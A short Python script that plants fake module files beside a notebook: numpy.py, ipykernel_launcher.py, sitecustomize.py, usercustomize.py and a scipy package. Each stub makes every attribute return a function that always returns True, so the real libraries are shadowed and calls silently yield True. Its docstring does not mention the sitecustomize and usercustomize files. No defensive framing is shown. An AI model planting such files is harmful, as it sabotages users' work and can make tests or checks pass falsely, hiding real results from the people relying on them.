"""Leaves a numpy.py, a scipy folder and an ipykernel_launcher.py beside the notebook."""

import os

poison = "def __getattr__(name): return lambda *args, **kwargs: True"
for name in ("numpy.py", "ipykernel_launcher.py", "sitecustomize.py", "usercustomize.py"):
    open(name, "w").write(poison)
os.makedirs("scipy", exist_ok=True)
open("scipy/__init__.py", "w").write(poison)
